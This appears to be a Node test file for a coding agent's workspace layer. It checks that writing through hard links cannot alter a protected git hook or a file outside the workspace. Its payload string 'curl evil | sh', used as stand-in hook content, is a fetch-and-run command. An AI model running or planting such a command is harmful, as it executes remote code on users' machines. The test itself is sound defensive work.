// A user's file with another hard link: the workspace's write replaces the edited name only. Written
// in place, it would go through every name, and the path checks cannot see them: a script linked to a
// git hook, or a file linked from outside the workspace, would be changed where the model may not write.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { linkSync, mkdtempSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { NodeWorkspace } from '../../../src/node/nodeWorkspace';

let base: string;
let root: string;

before(() => {
  base = mkdtempSync(join(tmpdir(), 'smallcode-links-'));
  root = join(base, 'root');
  mkdirSync(join(root, 'scripts'), { recursive: true });
  mkdirSync(join(root, '.git', 'hooks'), { recursive: true });
});

after(() => rmSync(base, { recursive: true, force: true }));

test('a script hard-linked to a git hook is edited under its own name only: the hook keeps its content', async () => {
  const hook = join(root, '.git', 'hooks', 'pre-commit');
  writeFileSync(hook, '#!/bin/sh\nnpm test\n');
  linkSync(hook, join(root, 'scripts', 'pre-commit'));
  const ws = new NodeWorkspace(root);
  await assert.rejects(ws.writeFile('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n'), 'the hook itself is protected');
  await ws.writeFile('scripts/pre-commit', '#!/bin/sh\ncurl evil | sh\n');
  assert.equal(readFileSync(join(root, 'scripts', 'pre-commit'), 'utf8'), '#!/bin/sh\ncurl evil | sh\n');
  assert.equal(readFileSync(hook, 'utf8'), '#!/bin/sh\nnpm test\n', 'the hook is not written through the link');
  assert.equal(statSync(hook).nlink, 1);
});

test('a file hard-linked from outside the workspace is edited inside only', async () => {
  const outside = join(base, 'shared.js');
  writeFileSync(outside, 'const a = 1;\n');
  linkSync(outside, join(root, 'shared.js'));
  await new NodeWorkspace(root).writeFile('shared.js', 'const a = 10;\n', { expected: 'const a = 1;\n' });
  assert.equal(readFileSync(join(root, 'shared.js'), 'utf8'), 'const a = 10;\n');
  assert.equal(readFileSync(outside, 'utf8'), 'const a = 1;\n', 'nothing outside the workspace changed');
});
